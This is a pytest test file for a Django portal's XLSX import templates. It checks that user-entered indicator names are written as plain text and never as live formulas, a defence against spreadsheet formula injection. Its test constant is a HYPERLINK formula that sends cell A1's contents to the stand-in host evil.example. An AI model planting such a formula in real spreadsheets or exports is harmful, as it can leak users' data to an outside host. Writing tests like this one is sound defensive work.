"""The XLSX files the portal writes hold user text as literal strings, never as live formulas."""

import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from actionplan.models import Commitment
from actionplan.tests.factories import ActionPlanFactory, IndicatorFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Klick")'


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "".join(
            archive.read(name).decode() for name in archive.namelist() if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", name)
        )


def test_it_writes_an_indicator_name_typed_as_a_formula_as_text_in_the_values_template(client, dresden_lead, dresden, commitments):
    IndicatorFactory(
        plan=ActionPlanFactory(member=dresden), commitment=Commitment.objects.get(number=3), name=FORMULA, unit="=1+2",
    )
    client.force_login(dresden_lead)
    response = client.get("/de/dashboard/dresden/plan/import/template.values.xlsx")
    xml = sheet_xml(response.content)
    assert "<f>" not in xml and "<f " not in xml
    assert "=HYPERLINK(&quot;https://evil.example/?&quot;&amp;A1,&quot;Klick&quot;)" in xml or "=HYPERLINK(\"https" in xml
    listing = load_workbook(io.BytesIO(response.content))["Indikatoren"]
    assert [listing["B2"].value, listing["C2"].value] == [FORMULA, "=1+2"]
    assert listing["B2"].data_type == "s"


@pytest.mark.parametrize("url", ["template.xlsx", "template.values.xlsx"])
@pytest.mark.parametrize("lang", ["de", "en"])
def test_it_writes_no_formula_in_any_import_template(client, dresden_lead, dresden, commitments, url, lang):
    client.force_login(dresden_lead)
    response = client.get(f"/{lang}/dashboard/dresden/plan/import/{url}")
    assert response.status_code == 200
    assert "<f>" not in sheet_xml(response.content)
